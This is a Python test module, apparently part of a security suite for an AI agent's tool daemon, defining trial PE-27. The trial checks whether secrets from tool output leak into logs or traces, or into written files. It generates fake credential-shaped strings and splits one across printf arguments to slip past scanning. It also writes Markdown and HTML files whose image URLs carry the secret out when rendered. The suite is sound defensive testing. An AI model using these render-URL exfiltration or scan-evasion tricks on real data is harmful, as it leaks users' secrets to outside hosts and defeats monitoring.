"""PE-27: a secret that stands in a result goes no further: not into records, traces or a file that others render.

To whoever made the call its output is given as it is: that is what a call is for. What goes out by the network with it
is the network boundary's.
"""

import asyncio
from typing import Final

from opensafe.proof.escape.probe import Boundary, Run, Severity
from opensafe.proof.escape.trial import Trial

from .ground import Box, Ground, Post

_TRACED_S: Final = 20


def _secrets(nonce: str) -> dict[str, str]:
    """Made of the run's nonce, in the shapes of issuers: by kind."""
    mark = nonce[1:].upper()
    return {
        "AWS key": f"AKIA{mark}ABCD",
        "GitHub token": f"ghp_{mark}{'a' * (36 - len(mark))}",
        "Slack token": f"xoxb-{mark}-{'b' * 24}",
        "Google key": f"AIza{mark}{'c' * (35 - len(mark))}",
        "Anthropic key": f"sk-ant-{mark}{'d' * 30}",
        "Stripe key": f"sk_live_{mark}{'e' * 16}",
        "npm token": f"npm_{mark}{'f' * (36 - len(mark))}",
        "private key": f"-----BEGIN RSA PRIVATE KEY-----\n{mark}{'A' * 48}\n-----END RSA PRIVATE KEY-----",
    }


async def _printed(box: Box, secret: str) -> None:
    """A call gives the secret out; its own text does not hold it."""
    half = len(secret) // 3
    await box.require("Exec", {"argv": ["printf", "%s%s", secret[:half], secret[half:]]})


async def _traced(post: Post, marks: str) -> bytes:
    """All that the daemon has put on disk, once the mark, which is no secret, is among its traces."""
    async with asyncio.timeout(_TRACED_S):
        while not any(  # noqa: ASYNC110 - the exporter has a clock of its own, and a file tells nobody
            marks.encode() in path.read_bytes() for path in post.daemon.state.rglob("traces*.jsonl")
        ):
            await asyncio.sleep(0.05)
    kept = [*post.daemon.state.rglob("*.jsonl"), post.daemon.log]
    return b"\n".join(path.read_bytes() for path in kept if path.is_file())


def _rendered(path: str, secret: str) -> tuple[dict[str, str], ...]:
    """Files that fetch a URL as soon as somebody looks at them."""
    return (
        {"path": f"{path}.md", "content": f"![chart](https://docs.python.org/i.png?d={secret})\n"},
        {"path": f"{path}.html", "content": f'<img src="https://docs.python.org/?k={secret}">\n'},
    )


async def _left(daemon: str, ground: Ground) -> list[str]:
    """Where secrets went, by kind."""
    post = await ground.post(daemon)
    found: list[str] = []
    async with post.box("PE-27") as box:
        secrets = _secrets(box.nonce)
        for kind, secret in secrets.items():
            await _printed(box, secret)
            for number, file in enumerate(_rendered(f"/workspace/{box.nonce}-{kind.replace(' ', '-')}", secret)):
                await box.run("Write", file, f"write-{box.nonce}-{number}-{len(kind)}-{kind[:2]}")
        written = [name.removeprefix(box.nonce) for name in await box.names() if name.startswith(box.nonce)]
        found += [f"rendered URL in {name}" for name in written]
        last = f"end-{box.nonce}"
        await box.require("Exec", {"argv": ["printf", "%s", last]})
        kept = await _traced(post, last)
    found += [
        f"{kind} in what is on disk"
        for kind, secret in secrets.items()
        if secret.splitlines()[-1 if "\n" not in secret else 1].encode() in kept
    ]
    return found


async def _attempt(ground: Ground) -> Run:
    post = await ground.post()
    async with post.box("PE-27") as box:
        name = box.name()
        await box.require(
            "Write", {"path": f"/workspace/{name}", "content": "![chart](https://docs.python.org/i.png?d=AKIA)\n"}
        )
        began = name in await box.names()
    return Run(
        began=began, finished=True, found="; ".join(await _left("", ground)),
        layer="masked: records, traces; block: tool.write.secret.block",
    )  # fmt: skip


async def _control(ground: Ground) -> Run:
    found = await _left("trusting", ground)
    whole = sum("disk" in one for one in found) == len(_secrets("n" + "0" * 12)) and any("URL" in one for one in found)
    return Run(began=True, finished=whole, found="; ".join(found) if whole else "", hints=tuple(found))


LEAKED: Final = Trial(
    id="PE-27",
    boundary=Boundary.POLICY,
    title="a secret in a result, or in a URL that somebody renders",
    severity=Severity.EXFIL,
    attacks=("T1552.001", "T1567"),
    breach="the secret stands in a record or a trace, or a file with it in a URL was written",
    control="mutants: secrets are not masked, and a content's are not looked for",
    attempts=(_attempt,),
    weak=_control,
)
